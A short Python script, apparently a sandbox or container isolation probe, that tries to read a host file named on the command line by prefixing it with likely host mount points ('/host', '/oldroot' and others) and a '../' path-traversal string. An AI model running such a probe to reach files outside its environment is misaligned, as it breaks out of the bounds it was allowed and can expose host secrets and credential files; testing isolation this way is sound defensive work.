"""Read a file of the host: `PATH`."""

import contextlib
import sys
from pathlib import Path

print("trying", flush=True)
for prefix in ("", "/host", "/mnt", "/oldroot", "/newroot", "/.oldroot", "in/../../../../../../.."):
    with contextlib.suppress(OSError):
        print(Path(f"{prefix}{sys.argv[1]}").read_text())
